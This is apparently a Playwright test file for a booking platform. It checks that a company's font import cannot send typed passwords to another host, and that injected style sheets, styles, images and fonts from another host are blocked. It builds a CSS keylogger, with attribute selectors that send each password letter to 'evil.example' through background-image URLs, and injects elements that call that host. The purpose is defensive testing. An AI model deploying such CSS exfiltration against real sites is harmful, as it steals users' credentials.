import { expect, type Page, test } from '@playwright/test';
import { tinyWoff2 } from '../../apps/server/test/tiny-font.ts';
import { type OwnPlatform, startPlatformOf } from '../pages/own-platform.ts';
import { enterEmail } from '../pages/account.ts';

const EVIL = 'https://evil.example';
const ada = { email: 'ada@embook.test', password: 'demo1234' };

/** Sends each letter that stands last in a password, as a style sheet can that reads the attribute. */
const sheet = [...'abcdefghijklmnopqrstuvwxyz0123456789']
  .map((letter) => `input[value$="${letter}"]{background-image:url(${EVIL}/typed/${letter})}`)
  .join('');

const shop = {
  name: 'Shop',
  street: 'Street 1',
  zip: '1011 AA',
  city: 'Amsterdam',
  country: 'NL',
  offers: ['services' as const],
  hours: {},
};
const company = (key: string, font: { import: string; name: string }) => ({
  format: 'embook-company-1' as const,
  company: { key, name: `Studio ${key}`, font },
  shops: [shop],
  customers: [{ ...ada, first_name: 'Ada', last_name: 'Lovelace' }],
});

// They share a platform.
test.describe.configure({ mode: 'default' });

let platform: OwnPlatform;
test.beforeAll(async () => {
  test.setTimeout(600_000);
  platform = await startPlatformOf(
    // As a company had it before fonts were uploaded.
    company('sheet', { import: `${EVIL}/font.css`, name: 'Evil' }),
    { ...company('file', { import: 'own.woff2', name: 'Own Font' }), beside: { 'own.woff2': tinyWoff2 } },
  );
});
test.afterAll(() => platform.stop());

/** Every request of the page that goes to another host; that host answers whatever is asked of it. */
async function requestsElsewhere(page: Page): Promise<string[]> {
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    const address = request.url();
    if (!address.startsWith(platform.address) && !address.startsWith('data:')) elsewhere.push(address);
  });
  await page.context().route(`${EVIL}/**`, (route) => route.fulfill({ contentType: 'text/css', body: sheet }));
  return elsewhere;
}

for (const key of ['sheet', 'file'])
  test(`[A26] nothing that is typed at the sign-in of a company leaves the platform: ${key}`, async ({ page }) => {
    const elsewhere = await requestsElsewhere(page);
    await page.goto(`${platform.address}/signin/profile?companyApiKey=${key}`);
    await enterEmail(page, ada.email);
    const password = page.getByLabel('Password', { exact: true });
    for (const letter of ada.password) {
      await password.press(letter);
      expect((await password.getAttribute('value')) ?? '').toBe('');
    }
    await page.getByRole('button', { name: 'Show password' }).click();
    await expect(password).toHaveValue(ada.password);
    expect((await password.getAttribute('value')) ?? '').toBe('');
    await password.press('Enter');
    await expect(page.getByRole('heading', { level: 1, name: 'Ada Lovelace' })).toBeVisible();
    const fonts = () => page.evaluate(() => [...document.fonts].map(({ status }) => status));
    await expect.poll(fonts).toEqual(key === 'file' ? ['loaded'] : []);
    expect(elsewhere).toEqual([]);
  });

test('[A26] a style sheet, a style or a font of another host that got into a page is not used', async ({ page }) => {
  // Counted where they leave the browser: what the policy refuses is a request to the tools of a browser, too.
  const left: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    left.push(route.request().url());
    return route.fulfill({ contentType: 'text/css', body: sheet });
  });
  await page.goto(`${platform.address}/signin/profile?companyApiKey=sheet`);
  await expect(page.getByLabel('E-mail address')).toBeVisible();
  await page.evaluate((evil) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}/font.css` });
    const style = Object.assign(document.createElement('style'), {
      textContent: `body{background:url(${evil}/style)}`,
    });
    document.head.append(link, style);
    const image = Object.assign(new Image(), { src: `${evil}/picture` });
    document.body.append(image);
    return new FontFace('Evil', `url(${evil}/font.woff2)`).load().catch(() => undefined);
  }, EVIL);
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
  expect(left).toEqual([]);
  expect(await page.evaluate(() => getComputedStyle(document.body).backgroundImage)).toBe('none');
});
